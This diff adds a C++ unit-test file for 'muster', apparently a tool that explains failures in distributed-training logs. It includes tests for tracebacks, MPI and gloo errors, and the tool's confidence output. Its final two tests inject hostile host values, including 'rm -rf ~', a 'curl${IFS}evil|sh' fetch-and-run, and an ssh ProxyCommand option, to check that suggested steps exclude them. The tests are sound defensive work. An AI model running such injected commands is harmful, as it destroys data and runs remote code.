@@ -1,0 +1,172 @@
+#include "explain/explanation.hpp"
+
+#include <gtest/gtest.h>
+
+#include "explain/scanned.hpp"
+#include "explain/text.hpp"
+
+namespace muster::explain {
+namespace {
+
+std::string traceback(const std::string& label, const std::string& end,
+                      const std::string& file = "train.py") {
+  return label + "Traceback (most recent call last):\n" + label + "  File \"" + file +
+         "\", line 57, in load_shard\n" + label + "    raise it\n" + label +
+         "  File \"/venv/lib/python3.11/site-packages/torch/x.py\", line 9, in f\n" + label +
+         "    deep()\n" + label + end + "\n";
+}
+
+TEST(Explanation, OfAnExceptionNamesTheUsersOwnCode) {
+  const Explanation found = explained(traceback("[n2:3] ", "ValueError: no shard 19"));
+  ASSERT_EQ(found.causes.size(), 1u);
+  EXPECT_EQ(found.confidence, Confidence::kHigh);
+  const Cause& cause = found.causes.front();
+  EXPECT_EQ(cause.failure, nullptr);
+  EXPECT_EQ(cause.ranks, std::vector<int>{3});
+  EXPECT_EQ(cause.hosts, std::vector<std::string>{"n2"});
+  EXPECT_EQ(full_text(found, 80),
+            "ValueError: no shard 19\n"
+            "  where      rank 3 on n2\n"
+            "  your code  train.py:57, in load_shard\n"
+            "  seen in    log:6: ValueError: no shard 19\n"
+            "\n"
+            "Confidence: high; nothing else in the log could be the cause.\n");
+}
+
+TEST(Explanation, OfTheSameExceptionOnManyRanksIsOne) {
+  std::string log;
+  for (int rank = 0; rank < 8; ++rank) {
+    log += traceback("[n1:" + std::to_string(rank) + "] ",
+                     rank == 3 ? "KeyError: 'lr'" : "RuntimeError: rank 7 said no");
+  }
+  const Explanation found = explained(log);
+  ASSERT_EQ(found.causes.size(), 2u);
+  EXPECT_EQ(found.causes[0].ranks, (std::vector<int>{0, 1, 2, 4, 5, 6, 7}));
+  EXPECT_EQ(found.causes[1].ranks, std::vector<int>{3});
+  EXPECT_EQ(found.confidence, Confidence::kMedium);
+}
+
+TEST(Explanation, OfInterleavedTracebacksKeepsRanksApart) {
+  const Explanation found = explained(
+      "[n1:0] Traceback (most recent call last):\n[n2:1] Traceback (most recent call last):\n"
+      "[n1:0]   File \"a.py\", line 1, in f\n[n2:1]   File \"b.py\", line 2, in g\n"
+      "[n2:1] TypeError: y\n[n1:0] ValueError: x\n");
+  ASSERT_EQ(found.causes.size(), 2u);
+  EXPECT_EQ(found.causes[0].exception->exception.frame.file, "b.py");
+  EXPECT_EQ(found.causes[1].exception->exception.frame.file, "a.py");
+}
+
+TEST(Explanation, OfAChainNamesItsLastExceptionAndTheFirst) {
+  const Explanation found =
+      explained(traceback("", "KeyError: 'lr'") +
+                "\nThe above exception was the direct cause of the following exception:\n\n" +
+                traceback("", "RuntimeError: bad settings"));
+  ASSERT_EQ(found.causes.size(), 1u);
+  EXPECT_EQ(found.causes[0].text, "RuntimeError: bad settings");
+  EXPECT_EQ(found.causes[0].exception->exception.before, "KeyError: 'lr'");
+}
+
+TEST(Explanation, PutsTheCauseBeforeWhatFollowedFromIt) {
+  const std::string closed =
+      "RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:534] Connection closed by "
+      "peer [198.18.1.2]:33218";
+  const Explanation found = explained(traceback("[n1:0] ", closed) + traceback("[n1:1] ", closed) +
+                                      traceback("[n2:2] ", "ValueError: no shard 19"));
+  ASSERT_EQ(found.causes.size(), 1u);
+  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
+  ASSERT_EQ(found.consequences.size(), 1u);
+  EXPECT_EQ(found.consequences[0].failure->id, "gloo-peer-closed");
+  EXPECT_EQ(found.consequences[0].ranks, (std::vector<int>{0, 1}));
+  EXPECT_EQ(found.confidence, Confidence::kHigh);
+}
+
+TEST(Explanation, PrefersTheRankThatFailedFirst) {
+  const std::string log =
+      traceback("[n1:0] ", "ValueError: a") + traceback("[n2:1] ", "TypeError: b", "other.py");
+  EXPECT_EQ(explained(log).causes.front().text, "ValueError: a");
+  const Explanation found = explained(log, {.first_failed_rank = 1});
+  EXPECT_EQ(found.causes.front().text, "TypeError: b");
+  EXPECT_EQ(found.confidence, Confidence::kHigh);
+}
+
+TEST(Explanation, OfAnEnginesWrappedHelpReadsItsParagraph) {
+  const Explanation found = explained(
+      "--------------------------------------------------------------------------\n"
+      "There are not enough slots available in the system to satisfy the 64\n"
+      "slots that were requested by the application:\n"
+      "\n"
+      "  ./train\n"
+      "--------------------------------------------------------------------------\n");
+  ASSERT_FALSE(found.causes.empty());
+  EXPECT_EQ(found.causes.front().failure->id, "not-enough-slots");
+}
+
+// Of an engine that wraps its report, the first line names the failure and the others the rank.
+TEST(Explanation, TakesValuesFromTheWholeParagraph) {
+  const std::string ruler(70, '=');
+  const Evidence found = scanned(ruler +
+                                 "\n=   BAD TERMINATION OF ONE OF YOUR APPLICATION PROCESSES\n"
+                                 "=   PID 4711 RUNNING AT n2\n=   EXIT CODE: 3\n" +
+                                 ruler + "\n");
+  ASSERT_EQ(found.failures.size(), 1u);
+  EXPECT_EQ(found.failures[0].failure->id, "hydra-bad-termination");
+  EXPECT_EQ(found.failures[0].count, 2u);  // lines
+  EXPECT_EQ(found.failures[0].first[0].values.at("pid"), "4711");
+  EXPECT_EQ(found.failures[0].first[0].values.at("host"), "n2");
+}
+
+TEST(Explanation, OfUnknownTextShowsTheUnusualLinesAndClaimsNothing) {
+  std::string log;
+  for (int i = 0; i < 500; ++i) log += "step " + std::to_string(i) + " error rate 0.1\n";
+  log += "the frobnicator failed to engage\n";
+  const Explanation found = explained(log);
+  EXPECT_TRUE(found.causes.empty());
+  EXPECT_EQ(found.confidence, Confidence::kNone);
+  ASSERT_EQ(found.oddities.size(), 2u);
+  EXPECT_EQ(found.oddities[1].text, "the frobnicator failed to engage");
+  EXPECT_EQ(full_text(found, 80).find("muster does not know the cause"), 0u);
+}
+
+TEST(Explanation, OfAHealthyLogHasNothing) {
+  const Explanation found = explained("[n1:0] epoch 1 loss 0.3\n[n1:0] done\n");
+  EXPECT_EQ(full_text(found, 80), "Nothing in 2 lines shows a failure that muster knows.\n");
+}
+
+TEST(Scan, SurvivesGarbageAndLinesWithoutAnEnd) {
+  std::string garbage;
+  for (int i = 0; i < 200'000; ++i) garbage += static_cast<char>((i * 7919) >> 3);
+  Scan scan(whole_matcher());
+  scan.begin("log");
+  for (std::size_t at = 0; at < garbage.size(); at += 1000) scan.take(garbage.substr(at, 1000));
+  for (int i = 0; i < 200; ++i) scan.take(std::string(100'000, 'x'));
+  scan.take("\n" + traceback("", "ValueError: x"));
+  const Explanation found = explain(scan.finish());
+  ASSERT_FALSE(found.causes.empty());
+  EXPECT_EQ(found.causes.front().text, "ValueError: x");
+}
+
+TEST(Filled, TakesNoHostileValueIntoAStep) {
+  EXPECT_EQ(filled("ask {user} about {path}", {{"user", "a b"}}), "ask a b about PATH");
+  EXPECT_EQ(filled_step("$ ssh {host} true {{}}", {{"host", "n1"}}), "$ ssh n1 true {}");
+  for (const char* const step : {"$ ssh {host} true", "Leave it out: ssh {host} true"}) {
+    const std::string without = filled_step(step, {});
+    EXPECT_EQ(filled_step(step, {{"host", "n1; rm -rf ~"}}), without);
+    EXPECT_EQ(filled_step(step, {{"host", "n1;curl${IFS}evil|sh"}}), without);
+    EXPECT_EQ(filled_step(step, {{"host", "-oProxyCommand=x"}}), without);
+  }
+}
+
+// The whole way, from a hostile log to what is shown.
+TEST(Filled, ShowsNoCommandOfALog) {
+  const std::string shown = full_text(
+      explained("mpirun noticed that process rank 1 with PID 5 on node n1;curl${IFS}evil|sh exited "
+                "on signal 9 (Killed).\n"),
+      80);
+  const std::size_t steps = shown.find("to prove");
+  ASSERT_NE(steps, std::string::npos);
+  EXPECT_EQ(shown.substr(steps, shown.find("Confidence") - steps).find("curl"), std::string::npos)
+      << shown;
+}
+
+}  // namespace
+}  // namespace muster::explain
